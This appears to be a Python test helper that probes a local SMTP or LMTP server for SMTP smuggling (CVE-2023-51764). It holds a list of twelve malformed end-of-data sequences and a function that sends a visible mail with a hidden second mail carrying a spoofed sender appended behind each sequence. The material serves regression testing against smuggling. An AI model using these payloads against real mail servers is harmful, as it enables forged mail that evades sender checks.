"""A mail that tries to end early in eyes less strict than RFC 5321's, with a second one hidden behind (CVE-2023-51764)."""

import smtplib
import time

HIDDEN = b"MAIL FROM:<mallory@example.org>\r\nRCPT TO:<coach+join@example.test>\r\nDATA\r\nSubject: hidden\r\n\r\nhidden\r\n.\r\n"

VARIANTS = {
    "LF . LF": b"\n.\n",
    "LF . CRLF": b"\n.\r\n",
    "CRLF . LF": b"\r\n.\n",
    "CR . CR": b"\r.\r",
    "CR . CRLF": b"\r.\r\n",
    "CRLF . CR": b"\r\n.\rX",
    "LF . CR": b"\n.\r",
    "CR . LF": b"\r.\n",
    "LF LF . CRLF": b"\n\n.\r\n",
    "CRLF . CR CRLF": b"\r\n.\r\r\n",
    "CRLF . NUL CRLF": b"\r\n.\x00\r\n",
    "CRLF . . CRLF": b"\r\n..\r\n",
}
"""What stands where a sloppy server sees an end. None of them holds CRLF . CRLF."""


def smuggle(port: int, variant: bytes, *, lmtp: bool, bytewise: bool = False) -> list[int]:
    """Send one mail with a hidden one behind `variant`; returns every reply from the last dot to the goodbye."""
    assert b"\r\n.\r\n" not in variant
    door = smtplib.LMTP if lmtp else smtplib.SMTP
    with door("127.0.0.1", port, timeout=20) as client:
        client.ehlo_or_helo_if_needed()
        client.mail("amara@example.org")
        assert client.rcpt("coach+join@example.test")[0] == 250
        client.putcmd("data")
        assert client.getreply()[0] == 354
        whole = b"Subject: seen\r\n\r\nseen" + variant + HIDDEN
        for piece in [whole[i : i + 1] for i in range(len(whole))] if bytewise else [whole]:
            client.send(piece)
            if bytewise:
                time.sleep(0.0002)
        client.putcmd("quit")
        return [client.getreply()[0], client.getreply()[0]]
